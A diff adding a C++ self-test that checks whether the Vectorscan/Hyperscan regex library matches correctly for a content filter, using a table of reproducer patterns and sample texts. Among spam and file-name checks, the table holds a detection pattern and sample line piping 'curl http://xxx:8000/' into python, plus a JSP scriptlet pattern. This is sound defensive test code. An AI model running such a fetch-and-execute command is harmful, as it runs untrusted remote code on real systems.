@@ -1,0 +1,95 @@
+// How it works: each reproducer is compiled alone and together with the others, since a library may choose another
+// engine for a set. The first two are Vectorscan 5.4.9's false negatives, cut down; the rest walk through the engines
+// (pure literal, class, repeat, anchored, alternation) so that any other broken build has a chance to show.
+// Tested by tests/engine/match/selftest_test.cc.
+#include "engine/match/selftest.h"
+
+#include <array>
+
+#include <fmt/format.h>
+#include <hs/hs.h>
+
+#include "engine/match/scanner.h"
+#include "engine/match/scratch.h"
+
+namespace headgate::match {
+
+namespace {
+
+struct Reproducer {
+  const char* pattern;
+  unsigned flags;
+  std::string_view text;
+  bool matches;
+};
+
+constexpr unsigned kFlags = HS_FLAG_SINGLEMATCH | HS_FLAG_DOTALL;
+constexpr std::array kReproducers = {
+    Reproducer{R"(<%[\s\S]+%>)", kFlags | HS_FLAG_CASELESS, "<%out.print();int a%>", true},
+    Reproducer{R"(curl.*\|\s*python)", kFlags, "curl http://xxx:8000/ 2>&1 | python", true},
+    Reproducer{R"(curl.*\|\s*python)", kFlags | HS_FLAG_CASELESS, "CURL http://xxx:8000/ 2>&1 | python", true},
+    Reproducer{R"(<%[\s\S]+%>)", kFlags, "<%out.print();int a>", false},
+    Reproducer{R"(viagra)", kFlags | HS_FLAG_CASELESS, "Subject: buy ViAgRa now and save a lot of money", true},
+    Reproducer{R"(viagra)", kFlags, "Subject: buy ViAgRa now and save a lot of money", false},
+    Reproducer{R"(^Subject:.*[0-9]{3,5}\s*\$)", kFlags, "Subject: win 2500  $", true},
+    Reproducer{R"(\bfree\b)", kFlags, "not freedom but free, at last", true},
+    Reproducer{R"(\bfree\b)", kFlags, "freedom carefree", false},
+    Reproducer{R"((foo|bar|[a-c]x)+\.(exe|scr|pif)$)", kFlags, "name=foobarax.scr", true},
+    Reproducer{R"([\x80-\xff]{4})", kFlags, "caf\xc3\xa9 \xe2\x82\xac\xc3\xa9", true},
+};
+
+
+void run_set(const std::vector<const Reproducer*>& set, SelfTest& result) {
+  std::vector<const char*> patterns;
+  std::vector<unsigned> flags;
+  std::vector<unsigned> ids;
+  for (const Reproducer* one : set) {
+    patterns.push_back(one->pattern);
+    flags.push_back(one->flags);
+    ids.push_back(static_cast<unsigned>(ids.size()));
+  }
+  hs_database_t* database = nullptr;
+  hs_compile_error_t* error = nullptr;
+  if (hs_compile_multi(patterns.data(), flags.data(), ids.data(), static_cast<unsigned>(ids.size()), HS_MODE_BLOCK,
+                       nullptr, &database, &error) != HS_SUCCESS) {
+    result.missed.push_back(fmt::format("does not compile: {}", error != nullptr ? error->message : "?"));
+    hs_free_compile_error(error);
+    return;
+  }
+  const Scanner scanner(database);
+  Scratch scratch;
+  for (std::size_t i = 0; i < set.size(); ++i) {
+    Candidates found;
+    found.clear(set.size());
+    if (!scanner.scan(set[i]->text, scratch, found) || found.has(i) != set[i]->matches) {
+      result.missed.push_back(fmt::format("{} on {}", set[i]->pattern, set[i]->text));
+    }
+  }
+}
+
+}  // namespace
+
+SelfTest run_selftest() {
+  SelfTest result;
+  result.library = hs_version();
+  if (hs_valid_platform() != HS_SUCCESS) {
+    result.problem = "this CPU lacks what libhs needs (SSSE3): patterns are tried one by one";
+    return result;
+  }
+  std::vector<const Reproducer*> all;
+  for (const Reproducer& one : kReproducers) {
+    run_set({&one}, result);
+    all.push_back(&one);
+  }
+  run_set(all, result);
+  result.ok = result.missed.empty();
+  if (!result.ok) {
+    result.problem = fmt::format(
+        "libhs {} gives wrong answers ({} of its self-tests fail, the first: {}): it is not used, patterns are tried one "
+        "by one; install libhyperscan5 instead of libvectorscan5",
+        result.library, result.missed.size(), result.missed.front());
+  }
+  return result;
+}
+
+}  // namespace headgate::match
